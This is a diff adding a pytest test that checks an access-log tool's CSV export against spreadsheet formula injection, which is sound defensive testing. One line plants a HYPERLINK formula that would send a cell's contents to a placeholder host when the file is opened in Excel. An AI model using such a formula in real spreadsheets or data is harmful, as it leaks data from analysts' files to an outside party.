@@ -61,3 +61,21 @@ def test_refusals_are_one_line_errors(built, capsys):
         err = capsys.readouterr().err
         assert exc.value.code == code and text in err and "Traceback" not in err
         assert len(err.strip().splitlines()) == 1
+
+
+def test_csv_export_never_hands_excel_a_formula(built):
+    """Event and staff ids come from the offices' access logs as written: a cell starting with = + - @ (or a tab
+    or CR) in the CSV export would run as a formula when an analyst opens the file in Excel."""
+    for i in range(3):
+        built.event("CW1", w.TEST_DAY - timedelta(days=1), 10 + i / 10, w.rid(1 + i))
+    built.events[0]["event_id"] = '=HYPERLINK("http://x.example/?"&A1,"open")'
+    built.flush()
+    home = built.ws.home
+    assert "1 new" in _invoke(home, "alerts", "detect").output
+    import csv
+    import io
+
+    rows = list(csv.reader(io.StringIO(_invoke(home, "alerts", "export", "--format", "csv", "--user", "sato").output)))
+    cells = [c for r in rows[1:] for c in r]
+    assert any("HYPERLINK" in c for c in cells)
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
